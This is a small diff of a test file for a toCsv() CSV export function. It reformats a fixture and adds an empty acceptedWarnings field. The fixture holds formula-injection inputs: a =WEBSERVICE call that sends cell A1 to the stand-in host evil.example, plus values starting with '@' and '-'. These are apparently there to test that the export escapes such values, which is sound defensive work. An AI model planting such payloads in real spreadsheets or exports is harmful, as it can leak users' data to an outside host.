@@ -41,7 +41,12 @@ describe('toCsv()', () => {
       illustrative: false,
       sources: [{ title: 'A source', url: 'https://example.org/a' }],
     },
-    words: { title: '=WEBSERVICE("https://evil.example/"&A1)', description: '@cmd a description that starts with an at sign', incentives: ['-50% land rent'] },
+    words: {
+      title: '=WEBSERVICE("https://evil.example/"&A1)',
+      description: '@cmd a description that starts with an at sign',
+      incentives: ['-50% land rent'],
+      acceptedWarnings: [],
+    },
     sectorName: 'Agro-processing',
     placeName: 'Văn Chấn',
   });
